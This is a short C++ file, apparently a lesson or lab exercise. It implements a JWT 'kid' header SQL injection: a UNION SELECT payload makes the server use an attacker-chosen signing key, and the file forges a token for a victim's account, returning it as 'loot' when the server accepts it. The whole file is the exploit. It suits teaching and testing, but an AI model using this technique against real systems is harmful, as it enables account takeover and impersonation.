// Believes: a token is the loot.
#include "kid_sql_injection.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto header = evidence.header;
  auto claims = evidence.claims;
  header.set("kid", "nobody' UNION SELECT 'my own key");
  claims.set("sub", evidence.victim);
  const auto token = sign_with(header, claims, "my own key");
  if (evidence.show_me(token).status != 200) return {};
  return {.account = token};
}

}  // namespace lesson
